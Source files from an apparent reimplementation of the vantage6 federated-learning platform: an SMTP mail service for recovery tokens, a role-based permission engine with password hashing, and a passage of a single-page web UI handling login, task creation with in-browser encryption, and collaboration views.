from email.message import EmailMessage

log = logging.getLogger(__name__)


class MailService:
    """Thin sender over one configured SMTP relay.

    Config keys (ServerApp ``smtp=``): ``host`` (required), ``port``
    (default 25), ``sender`` (From address), ``username``/``password``
    (optional auth), ``starttls`` (bool), ``timeout`` seconds.
    """

    def __init__(self, config: dict):
        self.host = config["host"]
        self.port = int(config.get("port", 25))
        self.sender = config.get("sender", "noreply@vantage6-trn")
        self.username = config.get("username")
        self.password = config.get("password")
        self.starttls = bool(config.get("starttls", False))
        self.timeout = float(config.get("timeout", 10.0))

    def send(self, to: str, subject: str, body: str) -> None:
        msg = EmailMessage()
        msg["From"] = self.sender
        msg["To"] = to
        msg["Subject"] = subject
        msg.set_content(body)
        with smtplib.SMTP(self.host, self.port,
                          timeout=self.timeout) as smtp:
            if self.starttls:
                smtp.starttls()
            if self.username:
                smtp.login(self.username, self.password or "")
            smtp.send_message(msg)

    def send_password_recovery(self, to: str, username: str,
                               token: str) -> None:
        self.send(
            to, "vantage6-trn password recovery",
            f"A password reset was requested for account {username!r}.\n\n"
            f"Reset token (valid 1 hour):\n\n{token}\n\n"
            f"Submit it to POST /api/recover/reset with your new "
            f"password. If you did not request this, ignore this mail.",
        )

    def send_2fa_reset(self, to: str, username: str, token: str) -> None:
        self.send(
            to, "vantage6-trn two-factor reset",
            f"A two-factor authentication reset was requested for "
            f"account {username!r}.\n\n"
            f"Reset token (valid 1 hour):\n\n{token}\n\n"
            f"Submit it to POST /api/recover/2fa-reset; two-factor auth "
            f"will be disabled so you can log in and re-enroll. If you "
            f"did not request this, ignore this mail.",
        )
