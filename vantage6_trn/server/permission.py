"""Permission engine: rules (resource × scope × operation), roles, checks.

Reference counterpart: ``vantage6-server/vantage6/server/permission.py``
(``PermissionManager``, ``RuleCollection`` — SURVEY.md §2.1, UNVERIFIED).
Rules are seeded at first boot; roles are named rule bundles; a user's
effective rules = union(role rules, direct rules). Nodes and containers
are implicit identities checked structurally (org/collaboration match),
as in the reference.
"""

from __future__ import annotations

import hashlib
import hmac
import os
from typing import Iterable

from vantage6_trn.common.globals import Operation, Scope
from vantage6_trn.server.db import Database

RESOURCES = (
    "organization", "collaboration", "node", "user", "role", "rule",
    "task", "run", "port", "event", "algorithm_store",
)

# Default role bundles (reference seeds Root/Researcher/... at first boot).
DEFAULT_ROLES = {  # noqa: V6L020 - static seed table applied once inside the first-boot transaction; runtime permissions live in the store
    "Root": "ALL",
    "Researcher": [
        ("task", Operation.VIEW, Scope.COLLABORATION),
        ("task", Operation.CREATE, Scope.COLLABORATION),
        ("task", Operation.DELETE, Scope.ORGANIZATION),
        ("task", Operation.SEND, Scope.COLLABORATION),  # kill
        ("run", Operation.VIEW, Scope.COLLABORATION),
        ("event", Operation.RECEIVE, Scope.COLLABORATION),
        ("organization", Operation.VIEW, Scope.COLLABORATION),
        ("collaboration", Operation.VIEW, Scope.ORGANIZATION),
        ("node", Operation.VIEW, Scope.COLLABORATION),
        ("port", Operation.VIEW, Scope.COLLABORATION),
        ("user", Operation.VIEW, Scope.ORGANIZATION),
    ],
    "Viewer": [
        ("task", Operation.VIEW, Scope.ORGANIZATION),
        ("run", Operation.VIEW, Scope.ORGANIZATION),
        ("organization", Operation.VIEW, Scope.COLLABORATION),
        ("collaboration", Operation.VIEW, Scope.ORGANIZATION),
        ("node", Operation.VIEW, Scope.ORGANIZATION),
    ],
}


def hash_password(password: str, salt: bytes | None = None) -> str:
    salt = salt or os.urandom(16)
    digest = hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 100_000)
    return salt.hex() + "$" + digest.hex()


def verify_password(password: str, stored: str) -> bool:
    try:
        salt_hex, digest_hex = stored.split("$", 1)
    except ValueError:
        return False
    digest = hashlib.pbkdf2_hmac(
        "sha256", password.encode(), bytes.fromhex(salt_hex), 100_000
    )
    return hmac.compare_digest(digest.hex(), digest_hex)


class PermissionManager:
    def __init__(self, db: Database):
        self.db = db

    # --- seeding ----------------------------------------------------------
    def seed(self) -> None:
        if self.db.one("SELECT id FROM rule LIMIT 1"):
            return
        for res in RESOURCES:
            for op in Operation:
                for scope in Scope:
                    self.db.insert(
                        "rule", name=res, operation=op.value, scope=scope.value
                    )
        for role_name, rules in DEFAULT_ROLES.items():
            role_id = self.db.insert("role", name=role_name,
                                     description=f"default {role_name}")
            if rules == "ALL":
                rows = self.db.all("SELECT id FROM rule")
                for r in rows:
                    self.db.insert("role_rule", role_id=role_id, rule_id=r["id"])
            else:
                for res, op, scope in rules:
                    rule = self.db.one(
                        "SELECT id FROM rule WHERE name=? AND operation=? AND scope=?",
                        (res, op.value, scope.value),
                    )
                    self.db.insert("role_rule", role_id=role_id,
                                   rule_id=rule["id"])

    # --- queries ----------------------------------------------------------
    def rules_for_user(self, user_id: int) -> set[tuple[str, str, str]]:
        rows = self.db.all(
            """
            SELECT DISTINCT r.name, r.operation, r.scope FROM rule r
            WHERE r.id IN (
                SELECT rule_id FROM user_rule WHERE user_id=?
                UNION
                SELECT rr.rule_id FROM role_rule rr
                JOIN user_role ur ON ur.role_id = rr.role_id
                WHERE ur.user_id=?
            )
            """,
            (user_id, user_id),
        )
        return {(r["name"], r["operation"], r["scope"]) for r in rows}

    def allowed(
        self,
        user_id: int,
        resource: str,
        operation: Operation | str,
        minimal_scope: Scope | str,
    ) -> bool:
        """Does the user hold (resource, operation) at >= minimal_scope?"""
        op = Operation(operation).value
        order = [Scope.OWN, Scope.ORGANIZATION, Scope.COLLABORATION, Scope.GLOBAL]
        want = order.index(Scope(minimal_scope))
        rules = self.rules_for_user(user_id)
        return any(
            name == resource and rop == op
            and order.index(Scope(scope)) >= want
            for (name, rop, scope) in rules
        )

    def highest_scope(self, user_id: int, resource: str,
                      operation: Operation | str) -> Scope | None:
        op = Operation(operation).value
        best = None
        order = [Scope.OWN, Scope.ORGANIZATION, Scope.COLLABORATION, Scope.GLOBAL]
        for (name, rop, scope) in self.rules_for_user(user_id):
            if name == resource and rop == op:
                s = Scope(scope)
                if best is None or order.index(s) > order.index(best):
                    best = s
        return best

    def assign_role(self, user_id: int, role_name: str) -> None:
        role = self.db.one("SELECT id FROM role WHERE name=?", (role_name,))
        if not role:
            raise ValueError(f"no such role: {role_name}")
        self.db.insert("user_role", user_id=user_id, role_id=role["id"])

    def orgs_in_same_collaboration(self, org_id: int) -> set[int]:
        rows = self.db.all(
            """
            SELECT DISTINCT m2.organization_id FROM member m1
            JOIN member m2 ON m1.collaboration_id = m2.collaboration_id
            WHERE m1.organization_id=?
            """,
            (org_id,),
        )
        return {r["organization_id"] for r in rows} | {org_id}
