'use strict';
/* vantage6-trn web UI — dependency-free SPA over the /api surface.
 *
 * Mirrors the reference Angular UI's feature set (login/2FA, CRUD for
 * organizations/collaborations/users/nodes, store-driven task wizard,
 * run/result display) and adds true end-to-end crypto in the browser:
 * WebCrypto RSA-OAEP/SHA-256 + AES-256-CTR matches the server stack's
 * payload framing (common/encryption.py), so inputs are sealed — and
 * results opened — without any key ever reaching the server.
 */

// ---------- state ----------
const S = {
  token: sessionStorage.getItem('v6.token') || null,
  user: JSON.parse(sessionStorage.getItem('v6.user') || 'null'),
  rsaPrivate: null, // CryptoKey for result decryption; never persisted
  timers: [],
};

// ---------- tiny DOM / format helpers ----------
const $ = (sel) => document.querySelector(sel);
const esc = (s) => String(s ?? '').replace(/[&<>"']/g,
  (c) => ({'&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;',
           "'": '&#39;'}[c]));
const ts = (t) => t ? new Date(t * 1000).toLocaleString() : '—';
const chip = (s) => `<span class="chip ${esc(s)}">${esc(s)}</span>`;

function toast(msg, isErr = false) {
  const el = $('#toast');
  el.textContent = msg;
  el.className = isErr ? 'err' : '';
  clearTimeout(toast._t);
  toast._t = setTimeout(() => el.classList.add('hidden'), 4000);
}

function setView(html) {
  S.timers.forEach(clearInterval);
  S.timers = [];
  $('#view').innerHTML = html;
}

function every(ms, fn) { S.timers.push(setInterval(fn, ms)); }

// ---------- base64 <-> bytes ----------
function b64e(buf) {
  const b = new Uint8Array(buf);
  let s = '';
  for (let i = 0; i < b.length; i += 0x8000)
    s += String.fromCharCode.apply(null, b.subarray(i, i + 0x8000));
  return btoa(s);
}
function b64d(str) {
  const raw = atob(str);
  const out = new Uint8Array(raw.length);
  for (let i = 0; i < raw.length; i++) out[i] = raw.charCodeAt(i);
  return out;
}
const utf8e = (s) => new TextEncoder().encode(s);
const utf8d = (b) => new TextDecoder().decode(b);

// ---------- API ----------
async function api(path, opts = {}) {
  const headers = {...(opts.headers || {})};
  if (S.token) headers['Authorization'] = 'Bearer ' + S.token;
  let body;
  if (opts.body !== undefined) {
    headers['Content-Type'] = 'application/json';
    body = JSON.stringify(opts.body);
  }
  const method = opts.method || (opts.body !== undefined ? 'POST' : 'GET');
  const res = await fetch('/api' + path, {method, headers, body});
  let data = null;
  try { data = await res.json(); } catch (e) { /* non-JSON */ }
  if (res.status === 401 && S.token) { logout(); throw new Error('session expired'); }
  if (!res.ok) throw new Error((data && data.msg) || `${res.status} ${res.statusText}`);
  return data;
}

async function storePost(st, path, body, adminBody) {
  // store write with the auth dance: server-vouched identity first
  // (a short-lived audience-scoped vouch token + X-Server-Url — never
  // the session JWT, which a hostile store could replay against the
  // whole server API), admin-token prompt as fallback; stores may
  // answer 401 with non-JSON bodies (proxies), so parse defensively
  const vouch = (await api('/token/vouch', {body: {}})).vouch_token;
  const url = `${st.url.replace(/\/+$/, '')}${path}`;
  const post = (headers, b) => fetch(url, {
    method: 'POST',
    headers: {'Content-Type': 'application/json', ...headers},
    body: JSON.stringify(b),
  });
  let res = await post({'Authorization': `Bearer ${vouch}`,
                        'X-Server-Url': location.origin}, body);
  if (res.status === 401 || res.status === 403) {
    const msg = (await res.json().catch(() => ({}))).msg || res.statusText;
    const tok = prompt(`store says: ${msg}\nstore admin token:`);
    if (!tok) return null;
    res = await post({'Authorization': `Bearer ${tok}`},
                     adminBody || body);
  }
  if (!res.ok) {
    throw new Error((await res.json().catch(() => ({}))).msg ||
                    res.statusText);
  }
  return res.json();
}

function logout() {
  S.token = null; S.user = null; S.rsaPrivate = null;
  sessionStorage.removeItem('v6.token');
  sessionStorage.removeItem('v6.user');
  location.hash = '#/login';
  render();
}

// ---------- payload crypto (parity with common/encryption.py) ----------
function pemToDer(pem) {
  return b64d(pem.replace(/-----[^-]+-----/g, '').replace(/\s+/g, ''));
}

async function sealForOrg(plainBytes, orgPubB64) {
  // wire string = b64(RSA-OAEP(aes_key)) + "$" + b64(iv) + "$" + b64(AES-CTR(ct))
  const pub = await crypto.subtle.importKey(
    'spki', b64d(orgPubB64), {name: 'RSA-OAEP', hash: 'SHA-256'},
    false, ['encrypt']);
  const aesRaw = crypto.getRandomValues(new Uint8Array(32));
  const iv = crypto.getRandomValues(new Uint8Array(16));
  const aes = await crypto.subtle.importKey(
    'raw', aesRaw, {name: 'AES-CTR'}, false, ['encrypt']);
  const ct = await crypto.subtle.encrypt(
    {name: 'AES-CTR', counter: iv, length: 128}, aes, plainBytes);
  const encKey = await crypto.subtle.encrypt({name: 'RSA-OAEP'}, pub, aesRaw);
  return `${b64e(encKey)}$${b64e(iv)}$${b64e(ct)}`;
}

async function openPayload(str) {
  if (!str) return null;
  if (str.includes('$')) {
    if (!S.rsaPrivate)
      throw new Error('encrypted payload — load your org private key under Profile');
    const [k, iv, ct] = str.split('$').map(b64d);
    const aesRaw = await crypto.subtle.decrypt({name: 'RSA-OAEP'}, S.rsaPrivate, k);
    const aes = await crypto.subtle.importKey(
      'raw', aesRaw, {name: 'AES-CTR'}, false, ['decrypt']);
    const pt = await crypto.subtle.decrypt(
      {name: 'AES-CTR', counter: new Uint8Array(iv), length: 128}, aes, ct);
    return utf8d(pt);
  }
  return utf8d(b64d(str));
}

// tagged-ndarray display (common/serialization.py contract)
const DTYPES = {
  float32: Float32Array, float64: Float64Array, int32: Int32Array,
  int16: Int16Array, int8: Int8Array, uint8: Uint8Array,
  uint16: Uint16Array, uint32: Uint32Array,
  int64: typeof BigInt64Array !== 'undefined' ? BigInt64Array : null,
  uint64: typeof BigUint64Array !== 'undefined' ? BigUint64Array : null,
};
function detag(o) {
  if (o && typeof o === 'object') {
    if (o.__ndarray__ !== undefined && o.dtype !== undefined) {
      const T = DTYPES[o.dtype];
      let head = [];
      if (T) {
        const bytes = b64d(o.__ndarray__);
        const arr = new T(bytes.buffer, 0, Math.floor(bytes.length / T.BYTES_PER_ELEMENT));
        head = Array.from(arr.slice(0, 16), (x) => typeof x === 'bigint' ? Number(x) : x);
      }
      const n = (o.shape || []).reduce((a, b) => a * b, 1);
      return `ndarray<${o.dtype}>[${(o.shape || []).join('×')}] ` +
             `[${head.map((x) => +Number(x).toPrecision(6)).join(', ')}` +
             `${n > 16 ? ', …' : ''}]`;
    }
    if (Array.isArray(o)) return o.map(detag);
    const out = {};
    for (const [k, v] of Object.entries(o)) out[k] = detag(v);
    return out;
  }
  return o;
}

// ---------- router ----------
const ROUTES = [
  [/^#\/dashboard$/, viewDashboard],
  [/^#\/tasks$/, viewTasks],
  [/^#\/tasks\/new$/, viewTaskNew],
  [/^#\/tasks\/(\d+)$/, viewTaskDetail],
  [/^#\/collaborations$/, viewCollabs],
  [/^#\/collaborations\/(\d+)$/, viewCollabDetail],
  [/^#\/organizations$/, viewOrgs],
  [/^#\/users$/, viewUsers],
  [/^#\/roles$/, viewRoles],
  [/^#\/studies$/, viewStudies],
  [/^#\/nodes$/, viewNodes],
  [/^#\/stores$/, viewStores],
  [/^#\/profile$/, viewProfile],
];

async function render() {
  if (!S.token) {
    $('#topbar').classList.add('hidden');
    return viewLogin();
  }
  $('#topbar').classList.remove('hidden');
  $('#whoami').textContent = S.user ? S.user.username : '';
  const hash = location.hash || '#/dashboard';
  document.querySelectorAll('#nav a').forEach((a) =>
    a.classList.toggle('active', hash.startsWith(a.getAttribute('href'))));
  for (const [rx, view] of ROUTES) {
    const m = hash.match(rx);
    if (m) {
      try { await view(...m.slice(1)); } catch (e) { setView(
        `<div class="panel">error: ${esc(e.message)}</div>`); }
      return;
    }
  }
  location.hash = '#/dashboard';
}

// ---------- login ----------
function viewLogin() {
  setView(`
    <div id="login-card" class="panel">
      <h1>vantage6<b style="color:var(--accent)">-trn</b></h1>
      <form id="lf">
        <input id="lu" placeholder="username" autocomplete="username" required>
        <input id="lp" type="password" placeholder="password" required>
        <input id="lm" placeholder="6-digit MFA code" class="hidden"
               inputmode="numeric" autocomplete="one-time-code">
        <button>Sign in</button>
      </form>
      <p class="muted" style="margin-bottom:0">
        <a href="#" id="l-forgot">forgot password?</a> ·
        <a href="#" id="l-2fa">lost 2FA device?</a></p>
      <form id="rf-pw" class="hidden">
        <h3>Password recovery</h3>
        <input id="rp-user" placeholder="username" autocomplete="username">
        <button type="button" id="rp-send">Send recovery mail</button>
        <p class="muted">then paste the token from the mail:</p>
        <input id="rp-token" placeholder="reset token">
        <input id="rp-pass" type="password" placeholder="new password"
               autocomplete="new-password">
        <button>Set new password</button>
      </form>
      <form id="rf-2fa" class="hidden">
        <h3>2FA reset</h3>
        <input id="r2-user" placeholder="username" autocomplete="username">
        <input id="r2-pass" type="password" placeholder="password"
               autocomplete="current-password">
        <button type="button" id="r2-send">Send reset mail</button>
        <p class="muted">then paste the token from the mail:</p>
        <input id="r2-token" placeholder="reset token">
        <button>Disable 2FA</button>
      </form>
    </div>`);
  $('#l-forgot').onclick = (ev) => {
    ev.preventDefault();
    $('#rf-pw').classList.toggle('hidden');
    $('#rf-2fa').classList.add('hidden');
  };
  $('#l-2fa').onclick = (ev) => {
    ev.preventDefault();
    $('#rf-2fa').classList.toggle('hidden');
    $('#rf-pw').classList.add('hidden');
  };
  $('#rp-send').onclick = async () => {
    try {
      const out = await api('/recover/lost',
                            {body: {username: $('#rp-user').value}});
      toast(out.msg);  // generic: never an account-existence oracle
    } catch (e) { toast(e.message, true); }
  };
  $('#rf-pw').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    try {
      const out = await api('/recover/reset', {body: {
        reset_token: $('#rp-token').value.trim(),
        password: $('#rp-pass').value}});
      toast(out.msg);
      $('#rf-pw').classList.add('hidden');
    } catch (e) { toast(e.message, true); }
  });
  $('#r2-send').onclick = async () => {
    try {
      const out = await api('/recover/2fa-lost', {body: {
        username: $('#r2-user').value, password: $('#r2-pass').value}});
      toast(out.msg);
    } catch (e) { toast(e.message, true); }
  };
  $('#rf-2fa').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    try {
      const out = await api('/recover/2fa-reset', {body: {
        reset_token: $('#r2-token').value.trim()}});
      toast(out.msg);
      $('#rf-2fa').classList.add('hidden');
    } catch (e) { toast(e.message, true); }
  });
  $('#lf').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    const body = {username: $('#lu').value, password: $('#lp').value};
    if (!$('#lm').classList.contains('hidden')) body.mfa_code = $('#lm').value;
    try {
      const out = await api('/token/user', {body});
      S.token = out.access_token; S.user = out.user;
      sessionStorage.setItem('v6.token', S.token);
      sessionStorage.setItem('v6.user', JSON.stringify(S.user));
      location.hash = '#/dashboard';
      render();
    } catch (e) {
      if (/mfa_code/.test(e.message)) {
        $('#lm').classList.remove('hidden');
        $('#lm').focus();
        toast('enter your MFA code');
      } else toast(e.message, true);
    }
  });
}

// ---------- dashboard ----------
async function viewDashboard() {
  const load = async () => {
    const [ver, orgs, collabs, nodes, tasks] = await Promise.all([
      api('/version'), api('/organization'), api('/collaboration'),
      api('/node'), api('/task?per_page=8&page=1'),
    ]);
    const online = nodes.data.filter((n) => n.status === 'online').length;
    return {ver, orgs, collabs, nodes, tasks, online};
  };
  const d = await load();
  setView(`
    <h1>Dashboard <span class="muted" style="font-size:.8rem">server v${esc(d.ver.version)}</span></h1>
    <div class="row">
      <div class="panel"><div class="stat">${d.orgs.data.length}</div><div class="stat-label">organizations</div></div>
      <div class="panel"><div class="stat">${d.collabs.data.length}</div><div class="stat-label">collaborations</div></div>
      <div class="panel"><div class="stat" id="st-nodes">${d.online}/${d.nodes.data.length}</div><div class="stat-label">nodes online</div></div>
      <div class="panel"><div class="stat">${d.tasks.links ? d.tasks.links.total : d.tasks.data.length}</div><div class="stat-label">tasks</div></div>
    </div>
    <div class="panel">
      <h2 style="margin-top:0">Recent tasks</h2>
      <table><thead><tr><th>id</th><th>name</th><th>image</th><th>status</th><th>created</th></tr></thead>
      <tbody id="recent"></tbody></table>
    </div>
    <div class="panel">
      <h2 style="margin-top:0">Nodes</h2>
      <table><thead><tr><th>id</th><th>name</th><th>org</th><th>status</th><th>last seen</th></tr></thead>
      <tbody id="nodelist"></tbody></table>
    </div>`);
  const paint = (d2) => {
    $('#st-nodes').textContent = `${d2.online}/${d2.nodes.data.length}`;
    $('#recent').innerHTML = d2.tasks.data.map((t) => `
      <tr class="click" onclick="location.hash='#/tasks/${t.id}'">
        <td>${t.id}</td><td>${esc(t.name)}</td><td><code>${esc(t.image)}</code></td>
        <td>${chip(t.status)}</td><td>${ts(t.created_at)}</td></tr>`).join('') ||
      '<tr><td colspan="5" class="muted">no tasks yet</td></tr>';
    $('#nodelist').innerHTML = d2.nodes.data.map((n) => `
      <tr><td>${n.id}</td><td>${esc(n.name)}</td><td>${n.organization_id}</td>
      <td>${chip(n.status)}</td><td>${ts(n.last_seen)}</td></tr>`).join('') ||
      '<tr><td colspan="5" class="muted">no nodes registered</td></tr>';
  };
  paint(d);
  every(5000, async () => { try { paint(await load()); } catch (e) {} });
}

// ---------- tasks ----------
async function viewTasks() {
  let page = 1;
  setView(`
    <h1>Tasks <button style="float:right" onclick="location.hash='#/tasks/new'">New task</button></h1>
    <div class="panel">
      <table><thead><tr><th>id</th><th>name</th><th>image</th><th>collab</th><th>status</th><th>created</th></tr></thead>
      <tbody id="tl"></tbody></table>
      <div class="pager">
        <button class="secondary" id="prev">‹ prev</button>
        <span id="pageinfo" class="muted"></span>
        <button class="secondary" id="next">next ›</button>
      </div>
    </div>`);
  async function load() {
    const out = await api(`/task?page=${page}&per_page=15`);
    $('#tl').innerHTML = out.data.map((t) => `
      <tr class="click" onclick="location.hash='#/tasks/${t.id}'">
        <td>${t.id}</td><td>${esc(t.name)}</td><td><code>${esc(t.image)}</code></td>
        <td>${t.collaboration_id}</td><td>${chip(t.status)}</td>
        <td>${ts(t.created_at)}</td></tr>`).join('') ||
      '<tr><td colspan="6" class="muted">no tasks</td></tr>';
    const L = out.links || {page: 1, pages: 1, total: out.data.length};
    $('#pageinfo').textContent = `page ${L.page}/${Math.max(L.pages, 1)} · ${L.total} total`;
    $('#prev').disabled = page <= 1;
    $('#next').disabled = page >= L.pages;
  }
  $('#prev').onclick = () => { page--; load(); };
  $('#next').onclick = () => { page++; load(); };
  await load();
}

async function viewTaskDetail(id) {
  const t = await api(`/task/${id}`);
  const collab = await api(`/collaboration/${t.collaboration_id}`).catch(() => null);
  setView(`
    <h1>Task ${t.id}: ${esc(t.name)}
      <button class="danger" style="float:right" id="kill">Kill</button></h1>
    <div class="panel">
      <div class="kv"><b>image</b><code>${esc(t.image)}</code></div>
      <div class="kv"><b>status</b>${chip(t.status)}</div>
      <div class="kv"><b>collaboration</b>${t.collaboration_id}${collab ? ` (${esc(collab.name)}${collab.encrypted ? ', encrypted' : ''})` : ''}</div>
      <div class="kv"><b>job / parent</b>${t.job_id ?? '—'} / ${t.parent_id ?? '—'}</div>
      <div class="kv"><b>databases</b>${esc((t.databases || []).join(', ')) || '—'}</div>
      <div class="kv"><b>created</b>${ts(t.created_at)}</div>
    </div>
    <h2>Runs</h2>
    <div id="runs"></div>`);
  $('#kill').onclick = async () => {
    try { await api(`/task/${id}/kill`, {body: {}}); toast('kill signal sent'); }
    catch (e) { toast(e.message, true); }
  };
  async function paintRuns() {
    const out = await api(`/run?task_id=${id}`);
    const blocks = await Promise.all(out.data.map(async (r) => {
      let result = '';
      if (r.result) {
        try {
          const clear = await openPayload(r.result);
          result = `<pre>${esc(JSON.stringify(detag(JSON.parse(clear)), null, 1))}</pre>`;
        } catch (e) {
          result = `<div class="notice">${esc(e.message)}</div>` +
                   `<details><summary>raw payload</summary><pre>${esc(String(r.result).slice(0, 2000))}</pre></details>`;
        }
      }
      return `<div class="panel">
        <div class="kv"><b>run ${r.id}</b> org ${r.organization_id} ${chip(r.status)}</div>
        <div class="kv"><b>started / finished</b>${ts(r.started_at)} → ${ts(r.finished_at)}</div>
        ${r.log ? `<details><summary>log</summary><pre>${esc(r.log)}</pre></details>` : ''}
        ${result}</div>`;
    }));
    $('#runs').innerHTML = blocks.join('') || '<div class="panel muted">no runs</div>';
    return out.data.every((r) =>
      ['completed', 'failed', 'crashed', 'killed'].includes(r.status));
  }
  const done = await paintRuns();
  if (!done) {
    const t = setInterval(async () => {
      try { if (await paintRuns()) clearInterval(t); } catch (e) {}
    }, 3000);
    S.timers.push(t);
  }
}

async function viewTaskNew() {
  const [collabs, stores] = await Promise.all([
    api('/collaboration'), api('/algorithm_store').catch(() => ({data: []})),
  ]);
  // store-driven wizard: collect approved algorithms + function metadata
  const algos = [];
  await Promise.all(stores.data.map(async (st) => {
    try {
      const res = await fetch(`${st.url.replace(/\/+$/, '')}/algorithm?status=approved`);
      const out = await res.json();
      (out.data || []).forEach((a) => algos.push({...a, store: st.name}));
    } catch (e) { /* store unreachable from the browser */ }
  }));
  setView(`
    <h1>New task</h1>
    <div class="panel"><form class="grid" id="tf">
      <label>collaboration</label>
      <select id="f-collab" required>
        <option value="">— select —</option>
        ${collabs.data.map((c) => `<option value="${c.id}">${esc(c.name)}${c.encrypted ? ' 🔒' : ''}</option>`).join('')}
      </select>
      <label>organizations</label><select id="f-orgs" multiple required></select>
      <label>algorithm</label>
      <select id="f-algo">
        <option value="">(enter image manually)</option>
        ${algos.map((a, i) => `<option value="${i}">${esc(a.name)} — ${esc(a.image)} [${esc(a.store)}]</option>`).join('')}
      </select>
      <label>image</label><input id="f-image" placeholder="v6-trn://stats" required>
      <label>method</label><select id="f-method"><option value="">—</option></select>
      <input id="f-method-free" placeholder="method name" class="hidden" style="grid-column:2">
      <label>kwargs (JSON)</label><textarea id="f-kwargs" rows="5">{}</textarea>
      <label>databases</label><input id="f-dbs" placeholder="comma-separated labels (optional)">
      <label>name</label><input id="f-name" placeholder="my analysis">
      <div class="actions"><button>Create task</button></div>
    </form></div>
    <div id="wiz-note"></div>`);

  const orgNames = {};
  (await api('/organization')).data.forEach((o) => { orgNames[o.id] = o.name; });

  $('#f-collab').onchange = async () => {
    const c = collabs.data.find((x) => x.id === +$('#f-collab').value);
    $('#f-orgs').innerHTML = (c ? c.organization_ids : []).map((oid) =>
      `<option value="${oid}" selected>${esc(orgNames[oid] || 'org ' + oid)}</option>`).join('');
    $('#wiz-note').innerHTML = c && c.encrypted
      ? '<div class="notice">🔒 encrypted collaboration — the input will be sealed in your browser with each organization\'s public key (WebCrypto)</div>'
      : '';
  };
  const fillKwargs = (fn) => {
    // store metadata carries real defaults (decorator introspection) —
    // prefill them so the researcher edits values, not structure
    if (!fn || !fn.arguments) return;
    const kw = {};
    fn.arguments.forEach((arg) => {
      kw[arg.name || arg] = 'default' in arg ? arg.default : null;
    });
    $('#f-kwargs').value = JSON.stringify(kw, null, 1);
  };
  const useAlgo = () => {
    const a = algos[+$('#f-algo').value];
    const methodSel = $('#f-method');
    if (!a) {
      methodSel.innerHTML = '<option value="">—</option>';
      $('#f-method-free').classList.remove('hidden');
      return;
    }
    $('#f-image').value = a.image;
    const fns = a.functions || [];
    methodSel.innerHTML = fns.length
      ? fns.map((f) => `<option>${esc(f.name || f)}</option>`).join('')
      : '<option value="">—</option>';
    $('#f-method-free').classList.toggle('hidden', fns.length > 0);
    fillKwargs(fns[0]);
    methodSel.onchange = () => fillKwargs(
      fns.find((f) => (f.name || f) === methodSel.value));
  };
  $('#f-algo').onchange = useAlgo;
  $('#f-method-free').classList.remove('hidden');

  $('#tf').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    try {
      const collabId = +$('#f-collab').value;
      const c = collabs.data.find((x) => x.id === collabId);
      const method = $('#f-method').value || $('#f-method-free').value;
      if (!method) throw new Error('method is required');
      let kwargs;
      try { kwargs = JSON.parse($('#f-kwargs').value || '{}'); }
      catch (e) { throw new Error('kwargs is not valid JSON'); }
      const payload = utf8e(JSON.stringify(
        {method, args: [], kwargs}));
      const orgIds = Array.from($('#f-orgs').selectedOptions, (o) => +o.value);
      if (!orgIds.length) throw new Error('select at least one organization');
      const orgs = [];
      for (const oid of orgIds) {
        let input;
        if (c.encrypted) {
          const org = await api(`/organization/${oid}`);
          if (!org.public_key)
            throw new Error(`organization ${oid} has no public key registered`);
          input = await sealForOrg(payload, org.public_key);
        } else {
          input = b64e(payload);
        }
        orgs.push({id: oid, input});
      }
      const dbs = $('#f-dbs').value.split(',').map((s) => s.trim()).filter(Boolean);
      const t = await api('/task', {body: {
        collaboration_id: collabId, organizations: orgs,
        image: $('#f-image').value, name: $('#f-name').value || method,
        databases: dbs,
      }});
      toast(`task ${t.id} created`);
      location.hash = `#/tasks/${t.id}`;
    } catch (e) { toast(e.message, true); }
  });
}

// ---------- collaborations ----------
async function viewCollabs() {
  const [collabs, orgs] = await Promise.all([
    api('/collaboration'), api('/organization')]);
  setView(`
    <h1>Collaborations</h1>
    <div class="panel">
      <table><thead><tr><th>id</th><th>name</th><th>encrypted</th><th>members</th></tr></thead>
      <tbody>${collabs.data.map((c) => `
        <tr class="click" onclick="location.hash='#/collaborations/${c.id}'">
          <td>${c.id}</td><td>${esc(c.name)}</td>
          <td>${c.encrypted ? '🔒 yes' : 'no'}</td>
          <td>${c.organization_ids.length}</td></tr>`).join('') ||
        '<tr><td colspan="4" class="muted">none</td></tr>'}</tbody></table>
    </div>
    <div class="panel"><h2 style="margin-top:0">New collaboration</h2>
      <form class="grid" id="cf">
        <label>name</label><input id="c-name" required>
        <label>encrypted</label><input id="c-enc" type="checkbox" style="width:auto;justify-self:start">
        <label>organizations</label>
        <select id="c-orgs" multiple>${orgs.data.map((o) =>
          `<option value="${o.id}">${esc(o.name)}</option>`).join('')}</select>
        <div class="actions"><button>Create</button></div>
      </form></div>`);
  $('#cf').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    try {
      await api('/collaboration', {body: {
        name: $('#c-name').value, encrypted: $('#c-enc').checked,
        organization_ids: Array.from($('#c-orgs').selectedOptions, (o) => +o.value),
      }});
      toast('collaboration created'); viewCollabs();
    } catch (e) { toast(e.message, true); }
  });
}

async function viewCollabDetail(id) {
  const [c, orgs, nodes, studies] = await Promise.all([
    api(`/collaboration/${id}`), api('/organization'),
    api(`/node?collaboration_id=${id}`),
    api(`/study?collaboration_id=${id}`).catch(() => ({data: []})),
  ]);
  const orgName = (oid) => {
    const o = orgs.data.find((x) => x.id === oid);
    return o ? o.name : `org ${oid}`;
  };
  const nodeByOrg = {};
  nodes.data.forEach((n) => { nodeByOrg[n.organization_id] = n; });
  setView(`
    <h1>Collaboration: ${esc(c.name)} ${c.encrypted ? '🔒' : ''}</h1>
    <div class="panel">
      <h2 style="margin-top:0">Members & nodes</h2>
      <table><thead><tr><th>organization</th><th>node</th><th>status</th><th></th></tr></thead>
      <tbody>${c.organization_ids.map((oid) => {
        const n = nodeByOrg[oid];
        return `<tr><td>${esc(orgName(oid))}</td>
          <td>${n ? esc(n.name) : '<span class="muted">none</span>'}</td>
          <td>${n ? chip(n.status) : ''}</td>
          <td>${n ? '' : `<button class="secondary" data-reg="${oid}">register node</button>`}</td></tr>`;
      }).join('')}</tbody></table>
      <div id="apikey"></div>
    </div>
    <div class="panel">
      <h2 style="margin-top:0">Studies <span class="muted">(subsets of members)</span></h2>
      <table><tbody>${studies.data.map((s) =>
